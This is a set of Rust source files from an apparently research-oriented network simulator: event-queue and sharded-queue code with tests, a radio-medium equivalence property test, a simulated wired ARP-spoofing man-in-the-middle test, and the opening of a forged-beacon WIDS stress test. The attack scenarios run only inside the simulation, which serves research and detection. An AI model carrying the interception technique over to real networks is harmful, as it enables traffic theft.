    fn cancel_after_fire_is_false() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), "fired");
        assert_eq!(q.pop().unwrap().1, "fired");
        assert!(!q.cancel(id), "already-fired event is not pending");
        assert!(q.is_empty());
    }

    #[test]
    fn len_stays_exact_under_cancel_storm() {
        // A deauth-flood shape: many schedules, half cancelled, with
        // interleaved pops. len() must stay exact throughout.
        let mut q = EventQueue::new();
        let mut ids = Vec::new();
        for i in 0..200u64 {
            ids.push(q.schedule(SimTime::from_millis(i + 1), i));
        }
        for id in ids.iter().step_by(2) {
            assert!(q.cancel(*id));
        }
        assert_eq!(q.len(), 100);
        let mut seen = 0;
        while let Some((_, e)) = q.pop() {
            assert!(e % 2 == 1, "only odd (uncancelled) events fire");
            seen += 1;
            assert_eq!(q.len(), 100 - seen);
        }
        assert_eq!(seen, 100);
        assert!(q.is_empty());
    }

    #[test]
    fn pop_until_respects_deadline() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_millis(10), 1);
        q.schedule(SimTime::from_millis(20), 2);
        assert_eq!(q.pop_until(SimTime::from_millis(15)).unwrap().1, 1);
        assert!(q.pop_until(SimTime::from_millis(15)).is_none());
        assert_eq!(q.pop_until(SimTime::from_millis(25)).unwrap().1, 2);
    }

    #[test]
    fn pop_until_deadline_is_inclusive() {
        // An event at exactly the deadline fires in THIS window; one
        // nanosecond later belongs to the next. Both sides of the
        // boundary are pinned because the scenario tick loop and the
        // sharded lockstep windows partition time on this convention.
        let t = SimTime::from_millis(10);
        let mut q = EventQueue::new();
        q.schedule(t, "on-boundary");
        q.schedule(t + SimDuration::from_nanos(1), "past-boundary");
        assert_eq!(
            q.pop_until(t).unwrap(),
            (t, "on-boundary"),
            "t == deadline must fire"
        );
        assert!(
            q.pop_until(t).is_none(),
            "t == deadline + 1ns must NOT fire"
        );
        assert_eq!(
            q.pop_until(t + SimDuration::from_nanos(1)).unwrap().1,
            "past-boundary"
        );
    }

    #[test]
    fn pop_until_drains_same_instant_ties_in_seq_order() {
        // Several events at exactly the deadline: repeated pop_until
        // calls must drain them all, in scheduling order, before
        // returning None.
        let t = SimTime::from_millis(7);
        let mut q = EventQueue::new();
        q.schedule(t, "a");
        q.schedule(t, "b");
        q.schedule(t, "c");
        let drained: Vec<&str> = std::iter::from_fn(|| q.pop_until(t).map(|(_, e)| e)).collect();
        assert_eq!(drained, vec!["a", "b", "c"]);
        assert!(q.is_empty());
    }

    #[test]
    fn pop_until_with_cancelled_head_at_boundary() {
        // A tombstoned head exactly at the deadline must be skipped, not
        // counted, and must not mask a live event at the same instant.
        let t = SimTime::from_millis(3);
        let mut q = EventQueue::new();
        let doomed = q.schedule(t, "doomed");
        q.schedule(t, "live");
        q.cancel(doomed);
        assert_eq!(q.pop_until(t).unwrap().1, "live");
        assert!(q.pop_until(t).is_none());
        assert_eq!(q.dispatched(), 1, "cancelled event never dispatches");
    }

    #[test]
    fn schedule_at_seq_merges_with_local_seqs() {
        // The shard hook: externally assigned seqs interleave with
        // locally assigned ones in strict (time, seq) order, and the
        // internal counter never collides with an injected seq.
        let t = SimTime::from_millis(1);
        let mut q = EventQueue::new();
        q.schedule_at_seq(t, 5, "five");
        q.schedule_at_seq(t, 2, "two");
        let id = q.schedule(t, "six"); // counter bumped past 5 -> seq 6
        assert_eq!(q.len(), 3);
        assert_eq!(q.pop().unwrap().1, "two");
        assert_eq!(q.pop().unwrap().1, "five");
        assert_eq!(q.pop().unwrap().1, "six");
        assert!(!q.cancel(id), "already fired");
    }

    #[test]
    #[cfg(debug_assertions)]
    #[should_panic(expected = "already known")]
    fn schedule_at_seq_rejects_duplicate_seq() {
        let mut q = EventQueue::new();
        q.schedule_at_seq(SimTime::from_millis(1), 7, ());
        q.schedule_at_seq(SimTime::from_millis(2), 7, ());
    }

    #[test]
    fn peek_skips_cancelled_head() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), 1);
        q.schedule(SimTime::from_millis(2), 2);
        q.cancel(id);
        assert_eq!(q.peek_time(), Some(SimTime::from_millis(2)));
    }

    #[test]
    fn heavy_interleaving_is_stable() {
        let mut q = EventQueue::new();
        let base = SimTime::from_millis(1) + SimDuration::ZERO;
        for i in 0..1000u64 {
            q.schedule(base, i);
        }
        let got: Vec<u64> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(got, (0..1000).collect::<Vec<_>>());
    }

    #[test]
    fn schedule_into_consumed_tick_preserves_order() {
        // A handler firing at t schedules follow-ups at t (and at t+1ns,
        // same wheel tick): they must land after the already-consumed
        // prefix and fire in (at, seq) order within the tick.
        let t = SimTime::from_micros(100);
        let mut q = EventQueue::new();
        q.schedule(t, "first");
        q.schedule(t + SimDuration::from_nanos(2), "third");
        assert_eq!(q.pop().unwrap().1, "first");
        q.schedule(t, "second-same-instant");
        q.schedule(t + SimDuration::from_nanos(3), "fourth");
        assert_eq!(q.pop().unwrap().1, "second-same-instant");
        assert_eq!(q.pop().unwrap().1, "third");
        assert_eq!(q.pop().unwrap().1, "fourth");
        assert!(q.is_empty());
    }

    #[test]
    fn cross_tick_and_level_ordering() {
        // Spread events across wheel levels (ns, µs, ms, s, minutes) in
        // scrambled insertion order; pops must come back time-sorted.
        let times: Vec<u64> = vec![
            90_061_000_000_000, // ~25 h -> overflow
            1,
            1_023,
            1_024,
            65_536,
            1_000_000,
            4_194_304,
            268_435_456,
            1_000_000_000,
            17_179_869_184,
            3_600_000_000_000,
        ];
        let mut scrambled = times.clone();
        scrambled.reverse();
        scrambled.swap(0, 5);
        let mut q = EventQueue::new();
        for &t in &scrambled {
            q.schedule(SimTime(t), t);
        }
        let mut sorted = times.clone();
        sorted.sort_unstable();
        let got: Vec<u64> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(got, sorted);
    }

    #[test]
    fn peek_does_not_block_earlier_late_insert() {
        // peek may advance the cursor past empty ticks; a subsequent
        // schedule for an earlier (but still >= now) time must still fire
        // first.
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_millis(10), "late");
        assert_eq!(q.peek_time(), Some(SimTime::from_millis(10)));
        q.schedule(SimTime(SimTime::from_millis(10).0 - 1), "early");
        assert_eq!(q.pop().unwrap().1, "early");
        assert_eq!(q.pop().unwrap().1, "late");
    }

    #[test]
    fn compaction_bounds_resident_nodes() {
        // Cancel storm with nothing popped: tombstones must be swept so
        // resident wheel nodes stay O(live).
        let mut q = EventQueue::new();
        let mut ids = Vec::new();
        for i in 0..10_000u64 {
            ids.push(q.schedule(SimTime::from_micros(i + 1), i));
        }
        for id in ids.drain(..).take(9_900) {
            assert!(q.cancel(id));
        }
        assert_eq!(q.len(), 100);
        assert!(
            q.resident() <= 2 * q.len() + COMPACT_FLOOR,
            "resident {} vs live {}",
            q.resident(),
            q.len()
        );
        let mut seen = 0;
        while q.pop().is_some() {
            seen += 1;
        }
        assert_eq!(seen, 100);
    }
}
