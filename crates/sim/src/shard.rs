//! Per-shard event queues with a deterministic k-way merge.
//!
//! The sharded loop partitions the world into spatial regions and gives
//! each region its own [`EventQueue`]. Determinism survives because all
//! shards draw sequence numbers from **one global counter** and the
//! merge pop always selects the shard whose head has the smallest
//! `(fire_time, seq)` pair. Since `(time, seq)` totally orders events —
//! seqs are unique — the merged pop sequence is *provably identical* to
//! what a single [`EventQueue`] would produce for the same schedule
//! history (see DESIGN.md §15 for the proof sketch; the property test
//! in `tests/queue_props.rs` checks it empirically under arbitrary
//! schedule/cancel/pop interleavings).
//!
//! What sharding buys is not a different event order but *structure*:
//! within a lockstep window the events pending on different shards are
//! guaranteed spatially independent, so their expensive read-only parts
//! (SINR planning in `rogue-phy`) can run on the rayon pool while the
//! mutation replay stays serial and bit-identical.

use crate::queue::{EventId, EventQueue};
use crate::time::SimTime;

/// A fixed set of [`EventQueue`] shards sharing one global seq counter.
///
/// ```
/// use rogue_sim::{ShardedQueue, SimTime};
/// let mut q = ShardedQueue::new(2);
/// q.schedule(1, SimTime::from_millis(5), "east");
/// q.schedule(0, SimTime::from_millis(5), "west");
/// // Same instant: the globally-first scheduled event pops first,
/// // regardless of which shard holds it.
/// assert_eq!(q.pop().unwrap().1, "east");
/// assert_eq!(q.pop().unwrap().1, "west");
/// ```
pub struct ShardedQueue<E> {
    shards: Vec<EventQueue<E>>,
    next_seq: u64,
    now: SimTime,
    dispatched: u64,
}

impl<E> ShardedQueue<E> {
    /// `num_shards` queues positioned at time zero. At least one.
    pub fn new(num_shards: usize) -> Self {
        assert!(num_shards >= 1, "need at least one shard");
        ShardedQueue {
            shards: (0..num_shards).map(|_| EventQueue::new()).collect(),
            next_seq: 0,
            now: SimTime::ZERO,
            dispatched: 0,
        }
    }

    /// Number of shards (fixed at construction).
    pub fn num_shards(&self) -> usize {
        self.shards.len()
    }

    /// Global simulation time: fire time of the last merged pop.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Events dispatched through the merge so far.
    pub fn dispatched(&self) -> u64 {
        self.dispatched
    }

    /// Total pending events across all shards.
    pub fn len(&self) -> usize {
        self.shards.iter().map(|s| s.len()).sum()
    }

    /// True when every shard is drained.
    pub fn is_empty(&self) -> bool {
        self.shards.iter().all(|s| s.is_empty())
    }

    /// Pending events on one shard (the occupancy metric).
    pub fn shard_len(&self, shard: usize) -> usize {
        self.shards[shard].len()
    }

    /// Schedule `event` on `shard` at absolute time `at`, drawing the
    /// seq from the global counter. Returns an id valid for
    /// [`Self::cancel`].
    pub fn schedule(&mut self, shard: usize, at: SimTime, event: E) -> EventId {
        assert!(
            at >= self.now,
            "attempted to schedule event in the past ({at:?} < {:?})",
            self.now
        );
        let seq = self.next_seq;
        self.next_seq += 1;
        self.shards[shard].schedule_at_seq(at, seq, event)
    }

    /// Schedule with an externally preserved sequence number — the
    /// resharding hook: entries migrated from another queue keep their
    /// seqs, so the merged dispatch order is unchanged by the move. The
    /// global counter is bumped past `seq`.
    pub fn schedule_at_seq(&mut self, shard: usize, at: SimTime, seq: u64, event: E) -> EventId {
        self.next_seq = self.next_seq.max(seq + 1);
        self.shards[shard].schedule_at_seq(at, seq, event)
    }

    /// Consume the queue, yielding every pending event as
    /// `(fire_time, seq, event)` in unspecified order (for resharding).
    pub fn into_entries(self) -> Vec<(SimTime, u64, E)> {
        self.shards
            .into_iter()
            .flat_map(|s| s.into_entries())
            .collect()
    }

    /// Cancel a pending event wherever it lives. O(shards) — cancels
    /// are rare in this codebase (no non-test caller as of PR 8), so a
    /// seq→shard side table is not worth its memory.
    pub fn cancel(&mut self, id: EventId) -> bool {
        self.shards.iter_mut().any(|s| s.cancel(id))
    }

    /// Cancel a pending event when the caller already knows its shard —
    /// O(1), no scan. The world tracks `(shard, EventId)` for node poll
    /// events precisely so deduplication can use this path.
    pub fn cancel_on(&mut self, shard: usize, id: EventId) -> bool {
        self.shards[shard].cancel(id)
    }

    /// Fire time of the globally next pending event, if any.
    pub fn peek_time(&mut self) -> Option<SimTime> {
        self.peek_shard().map(|(_, t, _)| t)
    }

    /// `(shard, time, seq)` of the head that the next pop will take.
    fn peek_shard(&mut self) -> Option<(usize, SimTime, u64)> {
        let mut best: Option<(usize, SimTime, u64)> = None;
        for (i, shard) in self.shards.iter_mut().enumerate() {
            if let Some((t, seq)) = shard.peek_next() {
                let better = match best {
                    None => true,
                    Some((_, bt, bseq)) => (t, seq) < (bt, bseq),
                };
                if better {
                    best = Some((i, t, seq));
                }
            }
        }
        best
    }

    /// Pop the globally next event in `(time, seq)` order, advancing
    /// the merged clock. Also returns the owning shard so the caller
    /// can attribute work (and route follow-up schedules).
    pub fn pop(&mut self) -> Option<(SimTime, E, usize)> {
        let (shard, _, _) = self.peek_shard()?;
        let (t, event) = self.shards[shard].pop().expect("peeked head vanished");
        debug_assert!(t >= self.now);
        self.now = t;
        self.dispatched += 1;
        Some((t, event, shard))
    }

    /// Pop the globally next event only if it fires **at or before**
    /// `deadline` — the same inclusive boundary as
    /// [`EventQueue::pop_until`], on which the lockstep windows rely.
    pub fn pop_until(&mut self, deadline: SimTime) -> Option<(SimTime, E, usize)> {
        match self.peek_time() {
            Some(t) if t <= deadline => self.pop(),
            _ => None,
        }
    }

    /// Drain the entire head *instant*: pop every event firing at the
    /// globally earliest pending time `t` (provided `t <= deadline`),
    /// appending `(event, shard)` pairs to `into` in `(time, seq)`
    /// order. Returns the drained instant, or `None` when nothing is
    /// pending at or before `deadline`. Advances the merged clock and
    /// the dispatch counter exactly as the equivalent `pop_until` loop
    /// would — this exists so the burst loop can account one
    /// `queue_pop` probe for `n` pops without calling `peek` twice per
    /// event.
    pub fn pop_instant_into(
        &mut self,
        deadline: SimTime,
        into: &mut Vec<(E, usize)>,
    ) -> Option<SimTime> {
        let instant = match self.peek_time() {
            Some(t) if t <= deadline => t,
            _ => return None,
        };
        while let Some((shard, t, _)) = self.peek_shard() {
            if t != instant {
                break;
            }
            let (_, event) = self.shards[shard].pop().expect("peeked head vanished");
            into.push((event, shard));
            self.dispatched += 1;
        }
        self.now = instant;
        Some(instant)
    }

    /// Read-only snapshot of every pending event with `t <= deadline`,
    /// as `(shard, time, seq, &event)` in unspecified order. The plan
    /// phase uses this to gather a window's events without popping.
    pub fn iter_pending_until(
        &self,
        deadline: SimTime,
    ) -> impl Iterator<Item = (usize, SimTime, u64, &E)> {
        self.shards.iter().enumerate().flat_map(move |(i, s)| {
            s.iter_pending()
                .filter(move |(t, _, _)| *t <= deadline)
                .map(move |(t, seq, e)| (i, t, seq, e))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn merge_order_matches_global_schedule_order() {
        // Events at the same instant fire in global scheduling order
        // even when they land on different shards.
        let mut q = ShardedQueue::new(3);
        let t = SimTime::from_millis(1);
        q.schedule(2, t, "first");
        q.schedule(0, t, "second");
        q.schedule(1, t, "third");
        q.schedule(0, t + SimDuration::ZERO, "fourth");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e, _)| e)).collect();
        assert_eq!(order, vec!["first", "second", "third", "fourth"]);
        assert_eq!(q.dispatched(), 4);
    }

    #[test]
    fn pop_reports_owning_shard() {
        let mut q = ShardedQueue::new(2);
        q.schedule(1, SimTime::from_millis(1), "a");
        q.schedule(0, SimTime::from_millis(2), "b");
        assert_eq!(q.pop().unwrap().2, 1);
        assert_eq!(q.pop().unwrap().2, 0);
    }

    #[test]
    fn pop_until_is_inclusive_across_shards() {
        let t = SimTime::from_millis(10);
        let mut q = ShardedQueue::new(2);
        q.schedule(0, t, "on");
        q.schedule(1, t + SimDuration::from_nanos(1), "past");
        assert_eq!(q.pop_until(t).unwrap().1, "on");
        assert!(q.pop_until(t).is_none());
        assert_eq!(q.now(), t);
    }

    #[test]
    fn cancel_finds_event_on_any_shard() {
        let mut q = ShardedQueue::new(4);
        let id = q.schedule(3, SimTime::from_millis(1), "doomed");
        q.schedule(1, SimTime::from_millis(2), "kept");
        assert!(q.cancel(id));
        assert!(!q.cancel(id));
        assert_eq!(q.len(), 1);
        assert_eq!(q.pop().unwrap().1, "kept");
    }

    #[test]
    fn iter_pending_until_snapshots_window() {
        let mut q = ShardedQueue::new(2);
        q.schedule(0, SimTime::from_millis(1), 10);
        q.schedule(1, SimTime::from_millis(2), 20);
        q.schedule(0, SimTime::from_millis(5), 99);
        let mut window: Vec<i32> = q
            .iter_pending_until(SimTime::from_millis(2))
            .map(|(_, _, _, e)| *e)
            .collect();
        window.sort_unstable();
        assert_eq!(window, vec![10, 20]);
        assert_eq!(q.len(), 3, "snapshot must not consume");
    }

    #[test]
    fn cancel_on_is_shard_targeted() {
        let mut q = ShardedQueue::new(4);
        let id = q.schedule(2, SimTime::from_millis(1), "doomed");
        q.schedule(2, SimTime::from_millis(2), "kept");
        // Wrong shard: same id does not resolve there.
        assert!(!q.cancel_on(0, id));
        assert!(q.cancel_on(2, id));
        assert!(!q.cancel_on(2, id), "double cancel is a no-op");
        assert_eq!(q.pop().unwrap().1, "kept");
    }

    #[test]
    fn pop_instant_drains_exactly_one_instant_in_seq_order() {
        let mut q = ShardedQueue::new(3);
        let t1 = SimTime::from_millis(1);
        let t2 = SimTime::from_millis(2);
        q.schedule(2, t1, "a");
        q.schedule(0, t1, "b");
        q.schedule(1, t2, "later");
        q.schedule(1, t1, "c");
        let mut burst = Vec::new();
        assert_eq!(q.pop_instant_into(t2, &mut burst), Some(t1));
        let got: Vec<(&str, usize)> = burst.clone();
        assert_eq!(got, vec![("a", 2), ("b", 0), ("c", 1)]);
        assert_eq!(q.now(), t1);
        assert_eq!(q.dispatched(), 3);
        burst.clear();
        // Deadline before the next instant: nothing drained, clock holds.
        assert_eq!(q.pop_instant_into(t1, &mut burst), None);
        assert!(burst.is_empty());
        assert_eq!(q.now(), t1);
        assert_eq!(q.pop_instant_into(t2, &mut burst), Some(t2));
        assert_eq!(burst, vec![("later", 1)]);
    }

    #[test]
    fn pop_instant_matches_pop_until_loop() {
        // Differential check: draining via pop_instant_into must be
        // indistinguishable from the pop_until loop it replaces.
        let build = || {
            let mut q = ShardedQueue::new(4);
            for i in 0..200u64 {
                let t = SimTime::from_millis((i * 7919) % 13);
                q.schedule((i % 4) as usize, t, i);
            }
            q
        };
        let deadline = SimTime::from_millis(9);
        let mut a = build();
        let mut b = build();
        let mut via_instants: Vec<(SimTime, u64, usize)> = Vec::new();
        let mut burst = Vec::new();
        while let Some(t) = a.pop_instant_into(deadline, &mut burst) {
            via_instants.extend(burst.drain(..).map(|(e, s)| (t, e, s)));
        }
        let mut via_pops = Vec::new();
        while let Some((t, e, s)) = b.pop_until(deadline) {
            via_pops.push((t, e, s));
        }
        assert_eq!(via_instants, via_pops);
        assert_eq!(a.now(), b.now());
        assert_eq!(a.dispatched(), b.dispatched());
        assert_eq!(a.len(), b.len());
    }

    #[test]
    fn single_shard_degenerates_to_plain_queue() {
        let mut sharded = ShardedQueue::new(1);
        let mut plain = EventQueue::new();
        for i in 0..50u64 {
            let t = SimTime::from_millis(i % 7);
            // Interleave schedule times non-monotonically within the
            // pre-pop phase to exercise the heap, then drain both.
            sharded.schedule(0, t + SimDuration::from_millis(10), i);
            plain.schedule(t + SimDuration::from_millis(10), i);
        }
        loop {
            match (sharded.pop(), plain.pop()) {
                (Some((ts, es, _)), Some((tp, ep))) => {
                    assert_eq!((ts, es), (tp, ep));
                }
                (None, None) => break,
                _ => panic!("queues diverged in length"),
            }
        }
    }
}
