//! The sparse/culled medium fast path must be *bit-identical* to the
//! dense reference.
//!
//! With `shadowing_sigma_db == 0.0` the medium stores per-transmission
//! power sparsely (audible radios only), culls receivers through the
//! spatial grid, and scans interference through the per-channel overlap
//! index. [`Medium::force_dense`] routes `begin_tx` through the
//! historical dense O(registry) fill instead. This suite drives random
//! topologies, channel plans, bitrates, mobility, and overlapping
//! schedules through both modes and requires exactly the same
//! deliveries (receiver, payload length, bit-exact RSSI, channel,
//! rate — in the same order), the same `frames_sent` /
//! `halfduplex_misses` / `sinr_drops` counters, and the same
//! carrier-sense answers.

use proptest::prelude::*;
use rogue_phy::{Bitrate, Medium, MediumParams, Pos};
use rogue_sim::{Seed, SimTime};

/// One delivery, reduced to comparable scalars (RSSI as raw bits: the
/// fast path must not differ even in the last ulp).
type DeliverySig = (u32, usize, u64, u8, u64);

/// Everything observable from one scripted run.
#[derive(PartialEq, Eq, Debug)]
struct RunSig {
    deliveries: Vec<DeliverySig>,
    frames_sent: u64,
    halfduplex_misses: u64,
    sinr_drops: u64,
    busy_probes: Vec<bool>,
    backlog_end: usize,
}

fn radio_from_word(w: u64) -> (Pos, u8, f64) {
    // Positions span ~820 m — several audible horizons, so every run
    // mixes in-range, marginal, and culled pairs.
    let x = (w & 0x3FFF) as f64 * 0.05;
    let y = ((w >> 14) & 0x3FFF) as f64 * 0.05;
    let channel = 1 + ((w >> 32) % 14) as u8;
    let tx_power = 10.0 + ((w >> 40) % 12) as f64;
    (Pos::new(x, y), channel, tx_power)
}

/// Interpret the op words against a fresh medium. Dense and sparse runs
/// see exactly the same call sequence.
fn run(radios: &[u64], ops: &[u64], force_dense: bool) -> RunSig {
    let mut m = Medium::new(MediumParams::default(), Seed(99));
    m.force_dense(force_dense);
    let ids: Vec<_> = radios
        .iter()
        .map(|&w| {
            let (pos, channel, power) = radio_from_word(w);
            m.add_radio(pos, channel, power)
        })
        .collect();

    let rates = [Bitrate::B1, Bitrate::B2, Bitrate::B5_5, Bitrate::B11];
    let mut t = SimTime::ZERO;
    // In-flight txs as (end, insertion order, handle); completed at
    // exactly their end time, earliest (end, order) first.
    let mut pending: Vec<(SimTime, u64, rogue_phy::TxHandle)> = Vec::new();
    let mut next_order = 0u64;
    let mut sig = RunSig {
        deliveries: Vec::new(),
        frames_sent: 0,
        halfduplex_misses: 0,
        sinr_drops: 0,
        busy_probes: Vec::new(),
        backlog_end: 0,
    };

    let complete_next = |m: &mut Medium,
                         pending: &mut Vec<(SimTime, u64, rogue_phy::TxHandle)>,
                         sig: &mut RunSig| {
        let Some(best) = pending
            .iter()
            .enumerate()
            .min_by_key(|(_, &(end, order, _))| (end, order))
            .map(|(i, _)| i)
        else {
            return;
        };
        let (end, _, h) = pending.remove(best);
        for d in m.complete_tx(end, h) {
            sig.deliveries.push((
                d.to.0,
                d.bytes.len(),
                d.rssi_dbm.to_bits(),
                d.channel,
                d.bitrate.bits_per_sec(),
            ));
        }
    };

    for &w in ops {
        match w % 4 {
            // Transmit: random source, rate, length; time advances by
            // 0–400 µs so frames overlap often (airtime ≥ 192 µs).
            0 | 1 => {
                let src = ids[(w >> 8) as usize % ids.len()];
                let rate = rates[(w >> 16) as usize % 4];
                let len = 10 + ((w >> 24) % 500) as usize;
                let payload = bytes::Bytes::from(vec![0x5Au8; len]);
                let (h, end) = m.begin_tx(t, src, payload, rate);
                pending.push((end, next_order, h));
                next_order += 1;
                t = SimTime(t.as_nanos() + (w >> 48) % 400_000);
            }
            // Complete the earliest-ending in-flight frame.
            2 => complete_next(&mut m, &mut pending, &mut sig),
            // Mobility plus a carrier-sense probe.
            3 => {
                let mover = ids[(w >> 8) as usize % ids.len()];
                let (pos, _, _) = radio_from_word(w >> 16);
                m.set_pos(mover, pos);
                let probe = ids[(w >> 32) as usize % ids.len()];
                sig.busy_probes.push(m.channel_busy(t, probe));
            }
            _ => unreachable!(),
        }
    }
    while !pending.is_empty() {
        complete_next(&mut m, &mut pending, &mut sig);
    }

    sig.frames_sent = m.frames_sent;
    sig.halfduplex_misses = m.halfduplex_misses;
    sig.sinr_drops = m.sinr_drops;
    sig.backlog_end = m.tx_backlog();
    sig
}

proptest! {
    #[test]
    fn sparse_path_is_bit_identical_to_dense(
        radios in proptest::collection::vec(any::<u64>(), 2..24),
        ops in proptest::collection::vec(any::<u64>(), 0..80),
    ) {
        let sparse = run(&radios, &ops, false);
        let dense = run(&radios, &ops, true);
        prop_assert_eq!(sparse, dense);
    }
}

/// A directed worst case on top of the random sweep: a dense cluster
/// (every pair audible, constant collisions) with mid-flight mobility —
/// the regime where a culling bug would show up as counter drift.
#[test]
fn contended_cluster_with_mobility_matches_dense() {
    let radios: Vec<u64> = (0..12)
        .map(|i| (i * 97 % 256) << 6 | (i * 53 % 256) << 20 | (i % 3) << 32)
        .collect();
    let ops: Vec<u64> = (0..200u64)
        .map(|i| i.wrapping_mul(0x9E37_79B9_7F4A_7C15).rotate_left(17))
        .collect();
    assert_eq!(run(&radios, &ops, false), run(&radios, &ops, true));
}
