//! The paper's §1.2 comparison case: a *wired* MITM via ARP spoofing.
//!
//! "In a wired network, one either needs to spoof DNS requests or ARP
//! requests or compromise a valid gateway machine to obtain access to
//! the clients traffic." The point of reproducing it: the wired attack
//! requires a machine already inside the LAN and continuous cache
//! re-poisoning — where the wireless rogue of Figure 1 needs only to
//! out-shout an AP from the parking lot.

use rogue_attack::ArpSpoofer;
use rogue_core::world::World;
use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_phy::MediumParams;
use rogue_services::apps::{DownloadClient, HttpServerApp};
use rogue_services::site::{download_portal, make_binary};
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};

const VICTIM: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 50);
const GATEWAY: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 1);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 13);
const SERVER: Ipv4Addr = Ipv4Addr::new(10, 9, 9, 9);

#[test]
fn wired_arp_spoof_mitm_intercepts_client_traffic() {
    let seed = Seed(1212);
    let mut world = World::new(seed, MediumParams::default());
    let lan = world.add_switch(SimDuration::from_micros(10));
    let wan = world.add_switch(SimDuration::from_micros(50));

    // Victim on the wired LAN.
    let victim = world.add_node("victim");
    let v_if = world.add_wired_iface(victim, lan, MacAddr::local(50), VICTIM, 24);
    world.host_mut(victim).routes.add_default(GATEWAY, v_if);

    // Legitimate gateway.
    let gw = world.add_node("gateway");
    world.add_wired_iface(gw, lan, MacAddr::local(1), GATEWAY, 24);
    world.add_wired_iface(gw, wan, MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 254), 8);
    world.host_mut(gw).ip_forward = true;

    // Web server out on the WAN.
    let server = world.add_node("server");
    world.add_wired_iface(server, wan, MacAddr::local(90), SERVER, 8);
    world
        .host_mut(server)
        .routes
        .add_default(Ipv4Addr::new(10, 0, 0, 254), 0);
    let mut rng = SimRng::new(seed);
    let portal = download_portal(make_binary(&mut rng, 8 * 1024));
    world.add_app(
        server,
        Box::new(HttpServerApp::new(80, portal.site.clone())),
    );

    // The attacker: an ordinary machine ALREADY INSIDE the LAN,
    // forwarding and claiming the gateway's IP toward the victim.
    let attacker = world.add_node("attacker");
    let a_if = world.add_wired_iface(attacker, lan, MacAddr::local(66), ATTACKER, 24);
    {
        let host = world.host_mut(attacker);
        host.ip_forward = true;
        host.routes.add_default(GATEWAY, a_if);
    }
    world.add_app(
        attacker,
        Box::new(ArpSpoofer::new(
            GATEWAY,
            Some((VICTIM, MacAddr::local(50))),
            a_if,
            SimTime::from_millis(50),
            SimDuration::from_millis(250), // continuous re-poisoning
        )),
    );

    // Victim browses.
    let dl = world.add_app(
        victim,
        Box::new(DownloadClient::new(
            SERVER,
            "/download.html",
            SimTime::from_secs(1),
            SimDuration::from_secs(20),
        )),
    );
    world.run_until(SimTime::from_secs(25));

    let o = world
        .app::<DownloadClient>(victim, dl)
        .outcome
        .clone()
        .expect("finished");
    assert!(o.error.is_none(), "victim unaware: {:?}", o.error);
    assert!(o.verified, "download still works through the interceptor");
    // The interception itself: the victim's upstream packets crossed the
    // attacker's forwarding path.
    assert!(
        world.host(attacker).forwarded > 0,
        "attacker must be in the victim→server path"
    );
    // And the victim's ARP cache holds the lie.
    let now = world.now();
    assert_eq!(
        world.host(victim).arp_cache.lookup(now, GATEWAY),
        Some(MacAddr::local(66)),
        "victim resolves the gateway to the attacker's MAC"
    );
}

#[test]
fn without_poisoning_the_attacker_sees_nothing() {
    let seed = Seed(1313);
    let mut world = World::new(seed, MediumParams::default());
    let lan = world.add_switch(SimDuration::from_micros(10));
    let wan = world.add_switch(SimDuration::from_micros(50));

    let victim = world.add_node("victim");
    let v_if = world.add_wired_iface(victim, lan, MacAddr::local(50), VICTIM, 24);
    world.host_mut(victim).routes.add_default(GATEWAY, v_if);

    let gw = world.add_node("gateway");
    world.add_wired_iface(gw, lan, MacAddr::local(1), GATEWAY, 24);
    world.add_wired_iface(gw, wan, MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 254), 8);
    world.host_mut(gw).ip_forward = true;

    let server = world.add_node("server");
    world.add_wired_iface(server, wan, MacAddr::local(90), SERVER, 8);
    world
        .host_mut(server)
        .routes
        .add_default(Ipv4Addr::new(10, 0, 0, 254), 0);
    let mut rng = SimRng::new(seed);
    let portal = download_portal(make_binary(&mut rng, 8 * 1024));
    world.add_app(
        server,
        Box::new(HttpServerApp::new(80, portal.site.clone())),
    );

    // Attacker present but passive (the paper's §1.1: switched LANs
    // don't hand you other clients' traffic).
    let attacker = world.add_node("attacker");
    world.add_wired_iface(attacker, lan, MacAddr::local(66), ATTACKER, 24);
    world.host_mut(attacker).ip_forward = true;

    let dl = world.add_app(
        victim,
        Box::new(DownloadClient::new(
            SERVER,
            "/download.html",
            SimTime::from_secs(1),
            SimDuration::from_secs(20),
        )),
    );
    world.run_until(SimTime::from_secs(25));

    let o = world
        .app::<DownloadClient>(victim, dl)
        .outcome
        .clone()
        .expect("finished");
    assert!(o.verified);
    assert_eq!(
        world.host(attacker).forwarded,
        0,
        "switched unicast never reaches the passive attacker"
    );
}
