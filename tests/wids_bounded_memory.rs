//! The MAC-randomization stress claim, measured: one million distinct
//! forged transmitter addresses stream through the full sharded pipeline
//! and per-source detector state must not grow by a single byte. Every
//! per-source map in the suite is a fixed-size sketch or set-associative
//! table sized at construction — an attacker who can mint addresses
//! faster than we can forget them would otherwise turn the WIDS itself
//! into the denial-of-service target.

use rogue_dot11::MacAddr;
use rogue_sim::SimTime;
use rogue_wids::{Dot11Event, Dot11Kind, SensorEvent, SensorId, WidsConfig, WidsPipeline};

/// A beacon from a freshly minted BSSID — the worst case: it lands in
/// the sequence, RSSI, beacon and probe stages at once.
fn forged_beacon(i: u64) -> SensorEvent {
    SensorEvent::Dot11(Dot11Event {
        sensor: SensorId((i % 3) as u16),
        at: SimTime(i * 50_000), // 20k events per simulated second
        channel: [1u8, 6, 11][(i % 3) as usize],
        rssi_dbm: -40.0 - (i % 40) as f64,
        ta: MacAddr::local(i + 10),
        ra: MacAddr::BROADCAST,
        bssid: MacAddr::local(i + 10),
        seq: (i % 4096) as u16,
        retry: false,
        kind: Dot11Kind::Beacon {
